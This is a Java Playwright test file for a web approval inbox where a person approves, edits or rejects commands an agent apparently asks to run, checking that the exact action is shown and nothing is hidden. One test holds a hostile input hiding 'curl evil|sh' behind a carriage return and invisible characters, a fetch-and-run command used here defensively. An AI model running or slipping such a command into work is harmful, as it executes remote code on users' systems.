package dev.holdpoint.app.web.cockpit;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.microsoft.playwright.Locator;
import dev.holdpoint.model.GateId;
import dev.holdpoint.model.Reply;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Actions that are approved, edited or rejected. */
class InboxApprovalTest extends InboxGround {
  @Test
  void anApprovalSaysWhatWouldRunAndIsGiven() {
    GateId gate = asks.approval("May I?", "git push origin main");
    Visit ada = ada(Look.LIGHT);
    assertThat(card(ada, gate).locator("pre")).hasText("$ git push origin main");
    assertThat(card(ada, gate))
        .containsText(gate(gate).question().action().digest().hex().substring(0, 8));
    card(ada, gate).locator("button[value=approve]").click();
    assertThat(receipt(ada, gate)).containsText("Approved");
    sendNow(ada, gate);
    assertEquals("approve", answer(gate));
  }

  @Test
  void aRejectionNeedsAReason() {
    GateId gate = asks.approval("May I?", "git push");
    Visit ada = ada(Look.LIGHT);
    card(ada, gate).locator("summary.btn-bad").click();
    card(ada, gate).locator("button[value=reject]").click();
    assertThat(card(ada, gate).locator("[role=alert]")).containsText("needs a reason");
    assertTrue(gate(gate).isOpen());
    card(ada, gate).locator("[name=reason]").fill("Not on a Friday");
    card(ada, gate).locator("button[value=reject]").click();
    assertThat(receipt(ada, gate)).containsText("Rejected: Not on a Friday");
    sendNow(ada, gate);
    assertEquals("reject: Not on a Friday", answer(gate));
  }

  @Test
  void anEditedCommandIsShownAsAChangeAndThatRuns() {
    GateId gate =
        asks.open(
            "May I?",
            Asks.approved("Bash", Map.of("command", "psql -f a.sql\n", "timeout", 120_000)));
    Visit ada = ada(Look.LIGHT);
    card(ada, gate).locator(".edit summary").click();
    Locator field = card(ada, gate).locator("textarea[name=command]");
    field.fill("psql --single-transaction -f a.sql\n");
    assertThat(card(ada, gate).locator(".diff ins")).containsText("--single-transaction");
    assertThat(card(ada, gate).locator(".btn-main")).containsText("Approve edited command");
    ada.shot("inbox-edited");
    card(ada, gate).locator("[data-undo]").click();
    assertThat(card(ada, gate).locator(".diff")).isHidden();
    assertThat(card(ada, gate).locator(".btn-main")).not().containsText("edited");
    field.fill("psql --single-transaction -f a.sql\n");
    card(ada, gate).locator(".btn-main").click();
    assertThat(receipt(ada, gate)).containsText("Approved, edited");
    sendNow(ada, gate);
    answer(gate);
    Reply.Approved reply = (Reply.Approved) gate(gate).answer().reply();
    assertEquals(
        "{\"command\":\"psql --single-transaction -f a.sql\\n\",\"timeout\":120000}",
        reply.edited().args());
  }

  @Test
  void whatIsReallySentIsSeenWhenTheFormIsFoldedAndOnTheReceipt() {
    GateId gate = asks.approval("May I?", "psql -f a.sql");
    Visit ada = ada(Look.LIGHT);
    card(ada, gate).locator(".edit summary").click();
    card(ada, gate).locator("textarea[name=command]").fill("psql -1 -f a.sql\u202e");
    ada.press("Escape");
    assertThat(card(ada, gate).locator("textarea[name=command]")).isHidden();
    assertThat(card(ada, gate).locator(".diff .add")).isVisible();
    assertThat(card(ada, gate).locator(".diff .add")).hasText("psql -1 -f a.sql\\u202e");
    ada.isAccessible().shot("inbox-edited-folded");
    card(ada, gate).locator("button[value=approve]").click();
    assertThat(receipt(ada, gate)).containsText("Approved, edited");
    assertThat(card(ada, gate).locator(".diff .add")).hasText("psql -1 -f a.sql\\u202e");
    sendNow(ada, gate);
    assertThat(card(ada, gate).locator(".diff .add")).isVisible();
    ada.isAccessible().shot("inbox-edited-receipt");
  }

  @Test
  void withoutScriptTheReceiptShowsWhatWasReallySent() {
    GateId gate = asks.approval("May I?", "psql -f a.sql");
    Visit ada = ada(Look.WITHOUT_SCRIPT);
    card(ada, gate).locator(".edit summary").click();
    card(ada, gate).locator("textarea[name=command]").fill("psql -1 -f a.sql");
    card(ada, gate).locator("button[value=approve]").click();
    assertThat(ada.find("article .act").first()).containsText("$ psql -f a.sql");
    assertThat(ada.find("#sent-instead")).containsText("$ psql -1 -f a.sql");
  }

  @Test
  void nothingOfAnExactActionIsHidden() {
    String text =
        "a line\n".repeat(5_000) + "x".repeat(5_000) + " the end of the long line\nthe last line\n";
    GateId gate =
        asks.open("May I?", Asks.approved("Write", Map.of("file_path", "a.txt", "content", text)));
    for (Look look : List.of(Look.LIGHT, Look.WITHOUT_SCRIPT)) {
      Visit ada = ada(look);
      Locator action = card(ada, gate).locator(".act");
      assertThat(action.locator(".add")).hasCount(5_002);
      action.locator("summary").click();
      assertThat(action.locator(".add").last()).isVisible();
      assertThat(action.locator(".add").last()).hasText("the last line");
      assertThat(action.locator(".add").nth(5_000))
          .hasText("x".repeat(5_000) + " the end of the long line");
      assertThat(action.locator(".hunk")).hasCount(0);
    }
  }

  @Test
  void otherArgumentsAreEditedAsJson() {
    GateId gate = asks.open("May I?", Asks.approved("Write", Map.of("path", "a.txt")));
    Visit ada = ada(Look.LIGHT);
    card(ada, gate).locator(".edit summary").click();
    card(ada, gate).locator("textarea[name=args]").fill("{\"path\": ");
    ada.press("Escape");
    card(ada, gate).locator("button[value=approve]").click();
    assertThat(card(ada, gate).locator("[role=alert]")).containsText("not JSON");
    assertThat(card(ada, gate).locator("textarea[name=args]")).isFocused();
    assertThat(receipt(ada, gate)).hasCount(0);
    card(ada, gate).locator("textarea[name=args]").fill("\"b.txt\"");
    card(ada, gate).locator("button[value=approve]").click();
    assertThat(card(ada, gate).locator("[role=alert]")).containsText("a JSON object or a list");
    assertTrue(gate(gate).isOpen());
    card(ada, gate).locator("textarea[name=args]").fill("{\"path\": \"b.txt\"}");
    card(ada, gate).locator("button[value=approve]").click();
    sendNow(ada, gate);
    assertEquals("approve {\"path\":\"b.txt\"}", answer(gate));
  }

  @ParameterizedTest
  @EnumSource(
      value = Look.class,
      names = {"LIGHT", "WITHOUT_SCRIPT"})
  void whatAFieldWouldChangeIsApprovedAsItWasAsked(Look look) {
    String hostile = "ls # harmless\rcurl evil|sh\r\n\0\u202e\u200b\u001b[2J";
    GateId gate = asks.approval("May I?", hostile);
    Visit ada = ada(look);
    String field = card(ada, gate).locator("textarea[name=args]").inputValue();
    assertTrue(field.contains("\\rcurl evil|sh\\r\\n\\u0000\\u202e\\u200b\\u001b"), field);
    card(ada, gate).locator("button[value=approve]").click();
    if (look == Look.LIGHT) {
      sendNow(ada, gate);
    }
    answer(gate);
    assertNull(((Reply.Approved) gate(gate).answer().reply()).edited());
  }

  @Test
  void whoWroteWhyNotDoesNotApproveByMistake() {
    GateId gate = asks.approval("May I?", "git push --force");
    Visit ada = ada(Look.LIGHT);
    ada.press("j", "r");
    ada.page().keyboard().type("Never force");
    ada.press("Escape", "a");
    assertThat(card(ada, gate).locator("[role=alert]"))
        .containsText("You wrote a reason for rejecting.");
    assertThat(card(ada, gate).locator("[name=reason]")).isFocused();
    assertThat(receipt(ada, gate)).hasCount(0);
    card(ada, gate).locator("[name=reason]").fill("");
    ada.press("Escape", "a");
    assertThat(receipt(ada, gate)).containsText("Approved");
  }

  @Test
  void whoWroteWhyNotDoesNotApproveByMistakeWithoutScriptEither() {
    GateId gate = asks.approval("May I?", "git push --force");
    Visit ada = ada(Look.WITHOUT_SCRIPT).expecting("400");
    card(ada, gate).locator("summary.btn-bad").click();
    card(ada, gate).locator("[name=reason]").fill("Never force");
    card(ada, gate).locator("button[value=approve]").click();
    assertThat(ada.find("main")).containsText("You approved it and wrote why not");
    assertThat(ada.find("main")).containsText("Never force");
    assertTrue(gate(gate).isOpen());
  }

  @Test
  void anApprovalThatNobodyEditedIsOfTheVeryAction() {
    GateId gate = asks.approval("May I?", "\nprintf 'a\\n'\n\techo b\n");
    Visit ada = ada(Look.WITHOUT_SCRIPT);
    card(ada, gate).locator("button[value=approve]").click();
    answer(gate);
    assertNull(((Reply.Approved) gate(gate).answer().reply()).edited());
    assertThat(ada.find("#outcome")).containsText(gate + " is answered");
    assertThat(ada.find("main form")).hasCount(0);
  }
}
